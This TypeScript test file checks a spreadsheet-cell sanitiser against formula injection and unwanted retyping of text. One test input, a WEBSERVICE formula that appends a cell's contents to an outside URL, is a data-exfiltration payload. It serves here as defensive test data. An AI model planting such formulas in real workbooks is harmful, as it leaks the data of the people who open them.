import fc from 'fast-check';
import { asTyped, toCellText, wouldBeRetyped } from '../../src/workbook/cellText';

test.each([
  '=WEBSERVICE("https://x/?"&A1)',
  '+1',
  '-1',
  '@SUM(A1)',
  "'quoted",
  '4.10',
  '1E5',
  '2026-11-23',
  '3/4',
  '1-2',
  'Jan 5',
  'März 2026',
  'TRUE',
  'wahr',
  '#N/A ',
  '10:30',
  '€5',
])('P13 P14 %j would not stay text by itself', (text) => expect(wouldBeRetyped(text)).toBe(true));

test.each(['OpenAI', 'approved by finance', 'Mistral Large', 'naïve', '(draft)'])('%j stays text by itself', (text) =>
  expect(wouldBeRetyped(text)).toBe(false),
);

test('P13 control characters cannot hide a formula at the start of a text', () => {
  expect(toCellText('\t\r\n\0=1+1')).toBe('=1+1');
  expect(toCellText('two\nlines')).toBe('two lines');
});

test('a leading apostrophe, which Excel would swallow, becomes a typographic one', () => {
  expect(toCellText("'tis")).toBe('’tis');
});

test('a text constant is typed with an apostrophe unless the cell has text format', () => {
  expect(asTyped('2026-11-23', 'General')).toBe("'2026-11-23");
  expect(asTyped('2026-11-23', '@')).toBe('2026-11-23');
  expect(asTyped('OpenAI', 'General')).toBe('OpenAI');
  expect(asTyped(4.1, 'General')).toBe(4.1);
  expect(asTyped('#N/A', 'General')).toBe('#N/A');
});

test('whatever the text, what is stored is stable, has no control character and no leading apostrophe', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const stored = toCellText(text);
      expect(toCellText(stored)).toBe(stored);
      expect(stored).not.toMatch(/^'|\p{Cc}/u);
    }),
  );
});
